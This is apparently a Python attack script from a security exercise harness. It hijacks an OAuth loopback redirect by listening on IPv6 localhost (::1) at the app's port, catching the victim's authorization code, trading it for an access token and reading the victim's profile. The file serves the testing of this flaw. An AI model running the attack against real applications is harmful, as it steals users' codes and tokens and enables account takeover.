"""The other localhost: the app is on 127.0.0.1, browsers try ::1 first."""

from urllib.parse import urlsplit

import requests


def attack(exercise):
    port = urlsplit(exercise.app).port
    try:
        listener = exercise.attacker.listen("::1", port)
    except OSError:  # the app was faster
        exercise.victim.signs_in()
        return

    exercise.victim.signs_in()
    caught = listener.wait(2)

    answer = requests.post(
        f"{exercise.issuer}/connect/token",
        data={
            "grant_type": "authorization_code",
            "code": caught["code"],
            "client_id": exercise.client_id,
            "redirect_uri": f"http://localhost:{port}/callback",
        },
    )
    if answer.ok:
        token = answer.json()["access_token"]
        bearer = {"Authorization": f"Bearer {token}"}
        requests.get(f"{exercise.issuer}/v1/profile", headers=bearer)
